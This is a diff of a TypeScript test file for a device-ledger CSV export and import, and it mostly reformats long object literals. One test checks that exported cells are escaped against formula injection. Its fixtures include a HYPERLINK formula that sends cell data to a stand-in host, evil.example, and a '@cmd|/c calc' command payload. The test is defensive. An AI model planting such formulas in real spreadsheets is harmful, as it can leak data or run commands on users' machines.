@@ -15,11 +15,23 @@ describe.each(DIALECTS)('built-in ledger CSV on %s', (dialect) => {
     [source, target] = await Promise.all([createTestDatabase(dialect), createTestDatabase(dialect)]);
     const ledger = createBuiltinLedger(source.prisma);
     const a = await ledger.create(
-      { serial: 'F17ZX1ABC', assetNumber: '資産-0001', platform: 'ios', manufacturer: 'Apple', model: 'iPhone 15 Pro', os: 'iOS (17.5.1)', status: 'in_use', notes: '営業部・東京\n「予備」, "二台目"' },
+      {
+        serial: 'F17ZX1ABC',
+        assetNumber: '資産-0001',
+        platform: 'ios',
+        manufacturer: 'Apple',
+        model: 'iPhone 15 Pro',
+        os: 'iOS (17.5.1)',
+        status: 'in_use',
+        notes: '営業部・東京\n「予備」, "二台目"',
+      },
       { actor: 'U0ADMIN' },
     );
     await ledger.assign(a.id, { email: 'taro.sato@example.co.jp', slackUserId: 'U0TARO', displayName: '佐藤 太郎' }, { actor: 'U0ADMIN' });
-    await ledger.create({ serial: 'R58N1234XYZ', assetNumber: 'AN-0002', platform: 'android', manufacturer: 'Samsung', model: 'Galaxy S23', status: 'repair', notes: '' }, { actor: 'U0ADMIN' });
+    await ledger.create(
+      { serial: 'R58N1234XYZ', assetNumber: 'AN-0002', platform: 'android', manufacturer: 'Samsung', model: 'Galaxy S23', status: 'repair', notes: '' },
+      { actor: 'U0ADMIN' },
+    );
     await ledger.create({ serial: 'C02XL0GHJGH5', platform: 'macos', status: 'retired' }, { actor: 'U0ADMIN' });
     // a device the MDM sync created and owns the MDM fields of
     await source.prisma.device.create({
@@ -52,21 +64,50 @@ describe.each(DIALECTS)('built-in ledger CSV on %s', (dialect) => {
     const rows = rowsOf(csv);
     expect(Object.keys(rows[0]!)).toEqual([...LEDGER_COLUMNS, ...MDM_COLUMNS]);
     const ipad = rows.find((r) => r.serial === 'DMPWX0001')!;
-    expect(ipad).toMatchObject({ mdm_source: 'jamf', mdm_device_id: 'jamf-77', device_name: '会議室iPad', user_email: 'room@example.co.jp', storage_gb: '128', registration_state: 'registered', enrolled_at: '2025-01-02T03:04:05.000Z' });
-    expect(rows.find((r) => r.serial === 'F17ZX1ABC')).toMatchObject({ assigned_email: 'taro.sato@example.co.jp', assigned_name: '佐藤 太郎', notes: '営業部・東京\n「予備」, "二台目"' });
+    expect(ipad).toMatchObject({
+      mdm_source: 'jamf',
+      mdm_device_id: 'jamf-77',
+      device_name: '会議室iPad',
+      user_email: 'room@example.co.jp',
+      storage_gb: '128',
+      registration_state: 'registered',
+      enrolled_at: '2025-01-02T03:04:05.000Z',
+    });
+    expect(rows.find((r) => r.serial === 'F17ZX1ABC')).toMatchObject({
+      assigned_email: 'taro.sato@example.co.jp',
+      assigned_name: '佐藤 太郎',
+      notes: '営業部・東京\n「予備」, "二台目"',
+    });
   });
 
   it('writes formulas in device names and notes as text, and imports them back unchanged (issue 14)', async () => {
     const db = await createTestDatabase(dialect);
     try {
       const formula = '=HYPERLINK("https://evil.example/?q="&A1,"Open")';
-      await db.prisma.device.create({ data: { serial: 'FORMULA1', assetNumber: '-42', platform: 'ios', status: 'in_use', source: 'intune', mdmSource: 'intune', mdmDeviceId: 'm-1', deviceName: formula, notes: '@cmd|/c calc', userEmail: '+1@example.com' } });
+      await db.prisma.device.create({
+        data: {
+          serial: 'FORMULA1',
+          assetNumber: '-42',
+          platform: 'ios',
+          status: 'in_use',
+          source: 'intune',
+          mdmSource: 'intune',
+          mdmDeviceId: 'm-1',
+          deviceName: formula,
+          notes: '@cmd|/c calc',
+          userEmail: '+1@example.com',
+        },
+      });
       const csv = await exportLedgerCsv(db.prisma);
       const row = rowsOf(csv).find((r) => r.serial === 'FORMULA1')!;
       expect(row).toMatchObject({ device_name: `'${formula}`, notes: "'@cmd|/c calc", asset_number: "'-42", user_email: "'+1@example.com" });
       expect((parse(csv, { bom: true }) as string[][]).flat().filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
       expect(await importLedgerCsv(db.prisma, csv, 'U0IMPORT')).toEqual({ created: 0, updated: 0, unchanged: 1 });
-      expect(await db.prisma.device.findFirst({ where: { serial: 'FORMULA1' } })).toMatchObject({ assetNumber: '-42', notes: '@cmd|/c calc', deviceName: formula });
+      expect(await db.prisma.device.findFirst({ where: { serial: 'FORMULA1' } })).toMatchObject({
+        assetNumber: '-42',
+        notes: '@cmd|/c calc',
+        deviceName: formula,
+      });
     } finally {
       await db.cleanup();
     }
@@ -82,7 +123,17 @@ describe.each(DIALECTS)('built-in ledger CSV on %s', (dialect) => {
     expect(after).toEqual(before);
 
     const ipad = await target.prisma.device.findFirst({ where: { serial: 'DMPWX0001' } });
-    expect(ipad).toMatchObject({ mdmSource: null, mdmDeviceId: null, deviceName: null, enrolledAt: null, lastCheckInAt: null, userEmail: null, storageGb: null, registrationState: null, source: 'jamf' });
+    expect(ipad).toMatchObject({
+      mdmSource: null,
+      mdmDeviceId: null,
+      deviceName: null,
+      enrolledAt: null,
+      lastCheckInAt: null,
+      userEmail: null,
+      storageGb: null,
+      registrationState: null,
+      source: 'jamf',
+    });
     const iphone = await target.prisma.device.findFirst({ where: { serial: 'F17ZX1ABC' }, include: { history: { orderBy: { id: 'asc' } } } });
     expect(iphone!.history.map((h) => [h.kind, h.actor])).toEqual([
       ['created', 'U0IMPORT'],
@@ -109,7 +160,13 @@ describe.each(DIALECTS)('built-in ledger CSV on %s', (dialect) => {
 
   it('refuses a file with a bad row, names the line, and changes nothing', async () => {
     const count = await target.prisma.device.count();
-    const csv = ['asset_number,serial,status,platform', 'NEW-1,SERNEW1,in_use,ios', 'NEW-2,SERNEW2,故障中,ios', 'NEW-3,SERNEW3,in_stock,palm', 'NEW-1,SERNEW4,in_stock,ios'].join('\n');
+    const csv = [
+      'asset_number,serial,status,platform',
+      'NEW-1,SERNEW1,in_use,ios',
+      'NEW-2,SERNEW2,故障中,ios',
+      'NEW-3,SERNEW3,in_stock,palm',
+      'NEW-1,SERNEW4,in_stock,ios',
+    ].join('\n');
     const error = await importLedgerCsv(target.prisma, csv, 'U0IMPORT').catch((e: unknown) => e);
     expect(error).toBeInstanceOf(ValidationError);
     expect((error as Error).message).toMatch(/line 3: status: "故障中"/);
